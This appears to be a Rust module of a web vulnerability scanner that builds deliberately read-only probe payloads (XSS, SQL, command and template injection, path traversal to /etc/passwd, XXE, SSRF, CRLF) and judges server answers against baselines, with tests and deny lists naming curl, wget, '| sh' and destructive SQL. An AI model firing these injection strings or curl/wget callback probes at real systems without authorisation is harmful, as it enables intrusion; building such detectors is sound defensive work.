//! Harmless payloads by attack type, and what their answers prove.
//!
//! Every payload only reads: it breaks out of a string so that the server complains, has two numbers multiplied, asks
//! for a file that every account may read, comes back in the answer, or has the host ask an address of this cloud. None
//! sleeps, writes or calls elsewhere; the function that a script names does not exist, and the host of a redirect never
//! resolves. What looks like an effect must not show for a neutral value, and must show a second time with other numbers.

use std::sync::LazyLock;

use bartizan_api::AttackType;
use bartizan_detect::{Asked, Attempt, Proof, RESPONSE_MAX, ResponseEngine, ResponseParts};
use bartizan_store::entity::verification_callback::Model as Call;
use rand::Rng;

static ENGINE: LazyLock<ResponseEngine> = LazyLock::new(ResponseEngine::new);

/// Types whose effect shows in an answer.
pub(super) const KINDS: [AttackType; 9] = [
    AttackType::Crlf,
    AttackType::Ldapi,
    AttackType::Nosqli,
    AttackType::Ptrav,
    AttackType::Rce,
    AttackType::Redir,
    AttackType::Sqli,
    AttackType::Ssti,
    AttackType::Xss,
];

/// Types whose effect shows only in a call of the host.
pub(super) const CALLING: [AttackType; 2] = [AttackType::Ssrf, AttackType::Xxe];

/// An answer.
#[derive(Clone, Debug, PartialEq, Eq)]
pub(super) struct Answer {
    pub(super) status: u16,
    pub(super) headers: Vec<(Vec<u8>, Vec<u8>)>,
    pub(super) body: Vec<u8>,
}

impl Answer {
    /// The answer as if it had been asked for the base: what merely repeats the value tells nothing.
    fn as_if(&self, value: &str, base: &str) -> (u16, String) {
        (self.status, String::from_utf8_lossy(&self.body).replace(value, base))
    }
}

/// What tells one round from another.
#[derive(Clone, Copy, Debug)]
pub(super) struct Round {
    word: u32,
    left: u32,
    right: u32,
}

impl Round {
    pub(super) fn random() -> Round {
        let mut random = rand::rng();
        Round {
            word: random.random_range(100_000..1_000_000),
            left: random.random_range(1000..10_000),
            right: random.random_range(1000..10_000),
        }
    }

    /// A value that means nothing to anybody.
    pub(super) fn neutral(self) -> String {
        format!("bz{}", self.word)
    }
}

/// The payloads of a type, most telling first.
pub(super) fn payloads(kind: AttackType, round: Round) -> Vec<String> {
    let Round { left, right, .. } = round;
    let word = round.neutral();
    match kind {
        AttackType::Xss => vec![
            format!("<svg onload={word}()>"),
            format!("\"><svg onload={word}()>"),
            format!("\" onfocus={word}() x=\""),
        ],
        AttackType::Sqli => {
            vec![format!("{word}'"), format!("{word}\""), format!("{word}')"), format!("{word}\\")]
        }
        AttackType::Nosqli => vec![format!("{word}'\"`{{$;"), format!("{{\"$bz{left}\": 1}}")],
        AttackType::Ldapi => vec![format!("{word})("), format!("*)({word}=*))(")],
        AttackType::Ptrav => vec![
            "../../../../../../../../etc/passwd".to_owned(),
            "/etc/passwd".to_owned(),
            "..\\..\\..\\..\\..\\..\\windows\\win.ini".to_owned(),
        ],
        AttackType::Rce => vec![
            format!(";echo {word}-$(({left}*{right}))"),
            format!("|echo {word}-$(({left}*{right}))"),
            format!("$(echo {word}-$(({left}*{right})))"),
            format!("{word}-${{{left}*{right}}}"),
        ],
        AttackType::Ssti => vec![
            format!("{word}-{{{{{left}*{right}}}}}"),
            format!("{word}-${{{left}*{right}}}"),
            format!("{word}-#{{{left}*{right}}}"),
            format!("{word}-<%={left}*{right}%>"),
        ],
        AttackType::Redir => vec![format!("https://{word}.invalid/"), format!("//{word}.invalid/")],
        AttackType::Crlf => {
            vec![format!("{word}\r\nX-Bartizan-Probe: {word}"), format!("{word}\nX-Bartizan-Probe: {word}")]
        }
        _ => vec![],
    }
}

/// Payloads of a type that make the host ask an address, and do nothing with what it answers. `root` is the element that
/// documents begin with.
pub(super) fn calls(kind: AttackType, address: &str, root: &str) -> Vec<String> {
    match kind {
        AttackType::Ssrf => vec![address.to_owned()],
        AttackType::Xxe => {
            let document = |inner: &str, text: &str| {
                format!("<?xml version=\"1.0\"?><!DOCTYPE {root} [{inner}]><{root}>{text}</{root}>")
            };
            vec![
                document(&format!("<!ENTITY bz SYSTEM \"{address}\">"), "&bz;"),
                document(&format!("<!ENTITY % bz SYSTEM \"{address}\"> %bz;"), ""),
            ]
        }
        AttackType::Rce => vec![
            format!(";curl -s {address}"),
            format!("|wget -qO- {address}"),
            format!("$(curl -s {address})"),
            format!("`wget -qO- {address}`"),
        ],
        _ => vec![],
    }
}

/// What a call proves.
pub(super) fn called(kind: AttackType, call: &Call) -> Proof {
    let agent = if call.user_agent.is_empty() { "no name" } else { &call.user_agent };
    Proof {
        vuln_type: kind.code(),
        sign_class: "",
        attempt: Some(0),
        sign: "A call to an address that the payload named",
        meaning: "The application asked an address that the request named.",
        span: None,
        text: format!("{} from {}, {agent}", call.method, call.source),
        needs_baseline: false,
    }
}

/// Values of which the first two mean the same to a database that evaluates them, and the third means another: base,
/// true and false. `AND` narrows what a statement touches, so no row can be met that the base would not meet.
pub(super) fn comparisons(round: Round) -> Vec<[String; 3]> {
    let Round { left, right, .. } = round;
    let wrong = right + 1;
    vec![
        [
            "1".to_owned(),
            format!("1 AND {left}*{right}={}", left * right),
            format!("1 AND {left}*{wrong}={}", left * right),
        ],
        ["1".to_owned(), format!("1' AND '{left}'='{left}"), format!("1' AND '{left}'='{}", left + 1)],
    ]
}

/// Whether three answers tell that the database evaluated the comparison.
pub(super) fn tells(values: &[String; 3], answers: &[Answer; 3]) -> bool {
    let [base, truth, lie] = values;
    let [of_base, of_truth, of_lie] = answers;
    let plain = of_base.as_if(base, base);
    // A refusal of whatever looks like SQL is the same for both.
    plain.0 < 400 && plain == of_truth.as_if(truth, base) && plain != of_lie.as_if(lie, base)
}

/// What an answer proves about a payload, though that to a neutral value does not show it.
pub(super) fn judge(
    kind: AttackType,
    host: &str,
    payload: &str,
    answer: &Answer,
    baseline: &Answer,
) -> Option<Proof> {
    let attempts = [Attempt { attack_type: kind, parameter: "", value: payload }];
    let inspect = |answer: &Answer| {
        let headers: Vec<(&[u8], &[u8])> =
            answer.headers.iter().map(|(name, value)| (name.as_slice(), value.as_slice())).collect();
        let body = answer.body.get(..RESPONSE_MAX).unwrap_or(&answer.body);
        let response = ResponseParts { status: answer.status, headers: &headers, body, parse_html: true };
        ENGINE.inspect(
            &Asked { host, method: "GET", path: "/", credentials: &[], attempts: &attempts },
            &response,
        )
    };
    let found = inspect(answer).into_iter().find(|proof| proof.attempt.is_some())?;
    let anyway = inspect(baseline).iter().any(|proof| proof.attempt.is_some() && proof.sign == found.sign);
    (!anyway).then_some(found)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn page(status: u16, body: &str) -> Answer {
        let headers = vec![(b"content-type".to_vec(), b"text/html".to_vec())];
        Answer { status, headers, body: body.as_bytes().to_vec() }
    }

    #[test]
    fn every_kind_has_payloads_that_only_read() {
        for kind in KINDS {
            let payloads = payloads(kind, Round::random());
            assert!(!payloads.is_empty(), "{kind:?}");
            for payload in payloads {
                let lower = payload.to_ascii_lowercase();
                for word in [
                    "drop", "delete", "insert", "update", "sleep", "rm ", "curl", "wget", " or ", "union",
                    "exec",
                ] {
                    assert!(!lower.contains(word), "{payload}");
                }
            }
        }
    }

    #[test]
    fn calls_name_the_address_and_nothing_else() {
        let address = "http://callback.test/12c-f4240";
        for kind in CALLING.into_iter().chain([AttackType::Rce]) {
            let calls = calls(kind, address, "order");
            assert!(!calls.is_empty(), "{kind:?}");
            for payload in calls {
                assert_eq!(payload.matches(address).count(), 1, "{payload}");
                // Nothing is written, sent along, or run of what is answered.
                for word in [" -o ", " -d ", " -T ", "--post", "| sh", "|sh", "file:", ">/", "> /", "eval"] {
                    assert!(!payload.contains(word), "{payload}");
                }
            }
        }
        assert!(calls(AttackType::Sqli, address, "order").is_empty());
    }

    #[test]
    fn an_effect_must_not_show_without_the_payload() {
        let error = "You have an error in your SQL syntax; check";
        let judged = |answer: &Answer, baseline: &Answer| {
            judge(AttackType::Sqli, "shop.test", "bz1'", answer, baseline).is_some()
        };
        assert!(judged(&page(500, error), &page(200, "fine")));
        assert!(!judged(&page(500, error), &page(500, error)));
        assert!(!judged(&page(500, "Something went wrong"), &page(200, "fine")));
    }

    #[test]
    fn a_comparison_tells_only_when_the_lie_differs() {
        let values = ["1".to_owned(), "1 AND 2=2".to_owned(), "1 AND 2=3".to_owned()];
        let of = |base: &str, truth: &str, lie: &str| {
            tells(&values, &[page(200, base), page(200, truth), page(200, lie)])
        };
        assert!(of("item 1", "item 1", "nothing"));
        assert!(!of("item 1", "item 1", "item 1"));
        assert!(!of("item 1", "nothing", "nothing"));
        assert!(!of("you asked for 1", "you asked for 1 AND 2=2", "you asked for 1 AND 2=3"));
        assert!(!tells(&values, &[page(403, "no"), page(403, "no"), page(200, "x")]));
    }
}
